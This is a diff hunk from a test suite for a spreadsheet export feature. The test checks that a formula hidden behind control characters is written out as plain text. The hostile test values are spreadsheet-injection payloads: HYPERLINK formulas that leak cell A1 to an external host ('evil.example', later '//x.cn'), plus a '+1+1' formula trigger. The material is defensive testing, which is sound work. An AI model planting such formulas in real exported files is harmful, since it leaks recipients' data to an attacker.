@@ -409,7 +409,7 @@ def test_an_export_whose_worker_was_killed_offers_a_retry_that_completes_it(
 def test_a_formula_behind_control_characters_stays_text(client, viewer, form_page, file_format):
     """XLSX cannot hold control characters; they are dropped BEFORE the formula check, so
     "\\x01=HYPERLINK(…)" is written as the text "'=HYPERLINK(…)", never as a live formula."""
-    hostile = '\x01=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    hostile = '\x01=HYPERLINK("//x.cn?"&A1,"点")'  # the name column holds 30 characters
     make_application(form_page, name=hostile, answers={"\x02\x03+1+1": "x"})
 
     response = post_export(client, viewer, columns=["name", "answers"], file_format=file_format)
